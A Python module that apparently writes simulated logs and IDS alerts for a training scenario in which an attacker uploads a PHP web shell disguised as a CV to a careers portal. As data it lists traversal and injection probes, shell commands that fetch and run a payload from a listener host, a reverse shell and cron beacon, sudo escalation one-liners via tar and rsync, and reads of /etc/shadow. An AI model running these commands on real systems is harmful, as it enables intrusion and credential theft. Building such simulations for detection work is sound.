"""Chain 5: the careers portal takes a PHP file for a CV."""

from __future__ import annotations

from tools.story.company import HOST
from tools.story.formats import linux, network
from tools.story.recorder import Story, digest, t

INCIDENT = "attack-web-shell"
ATTACKER, LISTENER = "203.0.113.118", "203.0.113.121"
SHELL = "/var/www/html/uploads/cv/cv_2214.php"
SHELL_SHA256 = digest("webshell", SHELL).lower()
_AGENT = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"

_FOLDER = "/var/www/html/uploads/cv"
# (day, time, as it stands in the URL, the words of the command, the program)
_COMMANDS: tuple[tuple[int, str, str, list[str], str], ...] = (
    (2, "03:02", "id", ["id"], "/usr/bin/id"),
    (2, "03:03", "uname%20-a", ["uname", "-a"], "/usr/bin/uname"),
    (2, "03:05", "cat%20/etc/passwd", ["cat", "/etc/passwd"], "/usr/bin/cat"),
    (2, "03:11", "sudo%20-l", ["sudo", "-l"], "/usr/bin/sudo"),
    (2, "03:20", f"curl%20{LISTENER}/x", ["curl", "-so", "/tmp/.x", f"http://{LISTENER}/x"], "/usr/bin/curl"),
    (2, "03:21", "chmod%20755%20/tmp/.x", ["chmod", "755", "/tmp/.x"], "/usr/bin/chmod"),
    (2, "03:22", "/tmp/.x", ["/tmp/.x"], "/tmp/.x"),
    (3, "03:41", "ss%20-tlnp", ["ss", "-tlnp"], "/usr/bin/ss"),
    (3, "03:55", "mysqldump%20careers", ["mysqldump", "careers"], "/usr/bin/mysqldump"),
)


def _request(
    s: Story, at: int, method: str, url: str, status: int, *, sent: int = 0, received: int = 900, filename: str = ""
) -> None:
    flow = (ATTACKER, s.port(), HOST["web01"].address, 80)
    uid = network.connection(s, at - 30, flow, sent=400 + sent, received=received, service="http", outbound=False)
    network.http(
        s,
        at,
        uid,
        flow,
        "www.marlund.example",
        url,
        method=method,
        status=status,
        agent=_AGENT,
        sent=sent,
        received=received,
        mime="text/x-php" if filename else "text/html",
        filename=filename,
    )


def _probe(s: Story) -> None:
    """Looking around, with breaks, on two days."""
    paths = (
        ("/careers/../../../../etc/passwd", "31104", 404),
        ("/careers?job=1%27--", "31103", 500),
        ("/uploads/", "31101", 403),
        ("/careers/apply.php~", "31101", 404),
        ("/careers/upload.php.bak", "31101", 404),
        ("/admin/login", "31101", 404),
        ("/.git/HEAD", "31101", 404),
        ("/uploads/cv/test.phtml", "31101", 404),
        ("/uploads/cv/test.php5", "31101", 404),
    )
    previous: list[str] = []
    for day, clock in ((1, "14:20"), (2, "01:12")):
        for order, (path, rule_id, status) in enumerate(paths):
            at = t(day, clock) + order * 47_000 + s.rng.randrange(20_000)
            _request(s, at, "GET", path, status, received=436)
            linux.web_alert(s, at, "web01", rule_id, ATTACKER, "GET", path, status, _AGENT)
            previous.append(linux.access_line(at, ATTACKER, f"GET {path}", status, _AGENT))
        linux.web_alert(
            s,
            t(day, clock) + 9 * 47_000 + 25_000,
            "web01",
            "31151",
            ATTACKER,
            "GET",
            "/uploads/cv/x.php",
            404,
            _AGENT,
            previous[-8:],
        )


def _command(s: Story, at: int, url_part: str, command: list[str], exe: str) -> None:
    """One request to the shell and what ran because of it."""
    url = f"/uploads/cv/cv_2214.php?c={url_part}"
    _request(s, at, "GET", url, 200)
    if "passwd" in url_part:
        linux.web_alert(s, at, "web01", "31106", ATTACKER, "GET", url, 200, _AGENT)
    linux.audit_command(
        s,
        at + 40,
        "web01",
        "www-data",
        33,
        ["sh", "-c", " ".join(command)],
        "/usr/bin/dash",
        "/var/www/html/uploads/cv",
    )
    linux.audit_command(s, at + 55, "web01", "www-data", 33, command, exe, "/var/www/html/uploads/cv")


def _upload(s: Story) -> None:
    at = t(2, "02:44")
    _request(s, at, "POST", "/careers/upload.php", 200, sent=2311, filename="cv_2214.php")
    network.alert(
        s,
        at + 50,
        (ATTACKER, s.port(), HOST["web01"].address, 80),
        2010920,
        "ET WEB_SERVER Exploit Suspected PHP Injection Attack (cmd=)",
        "Web Application Attack",
        1,
        app="http",
        http_fields={
            "hostname": "www.marlund.example",
            "url": "/careers/upload.php",
            "http_user_agent": _AGENT,
            "http_method": "POST",
            "protocol": "HTTP/1.1",
            "status": 200,
            "length": 211,
        },
    )
    linux.file_integrity(s, at + 900, "web01", SHELL, "www-data", 1874, added=True, digest=SHELL_SHA256)


def _stage(s: Story) -> None:
    """What the shell fetched and started: a download, and a long connection back."""
    web01 = HOST["web01"].address
    fetch = (web01, s.port(), LISTENER, 80)
    uid = network.connection(s, t(2, "03:20:01"), fetch, sent=160, received=88_216, service="http")
    agent, mime = "curl/8.5.0", "application/x-executable"
    at = t(2, "03:20:02")
    network.http(s, at, uid, fetch, LISTENER, "/x", agent=agent, received=88_216, mime=mime, filename="x")
    http = {"hostname": LISTENER, "url": "/x", "http_user_agent": agent, "http_method": "GET", "status": 200}
    said = (2013028, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2)
    network.alert(s, at, fetch, *said, app="http", http_fields=http)
    back = (web01, s.port(), LISTENER, 4444)
    network.connection(s, t(2, "03:22:02"), back, sent=61_000, received=38_000, seconds=5100.0)
    said = (2022550, "ET MALWARE Linux Reverse Shell Prompt Outbound", "A Network Trojan was detected", 1)
    network.alert(s, t(2, "03:22:03"), back, *said)


def _root(s: Story) -> None:
    """From www-data to root by a sudo rule too wide, and a crontab that calls home."""
    refused = "/usr/bin/tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh"
    linux.sudo(s, t(2, "03:12"), "web01", "www-data", _FOLDER, refused, ok=False, terminal="unknown")
    granted = "/usr/bin/rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null"
    linux.sudo(s, t(2, "03:31"), "web01", "www-data", "/tmp", granted, terminal="pts/3", first=True)
    command = ["cat", "/etc/shadow"]
    linux.audit_command(s, t(2, "03:36"), "web01", "root", 0, command, "/usr/bin/cat", "/tmp")
    linux.crontab(s, t(2, "03:40"), "web01", "www-data")
    for number in range(9):
        at = t(2, "06:00") + number * 8_700_000 + s.rng.randrange(900_000)
        text = "(www-data) CMD (/tmp/.x -q >/dev/null 2>&1)"
        linux.syslog(s, at, "web01", "CRON", text, 30_000 + number)
        home = (HOST["web01"].address, s.port(), LISTENER, 443)
        network.connection(s, at + 400, home, sent=900, received=700)


def write(s: Story) -> None:
    """Tuesday 14:20 to Thursday 04:00."""
    with s.part("web-shell", INCIDENT):
        _probe(s)
        _upload(s)
        for day, clock, part, command, exe in _COMMANDS:
            _command(s, t(day, clock), part, command, exe)
        _stage(s)
        _root(s)
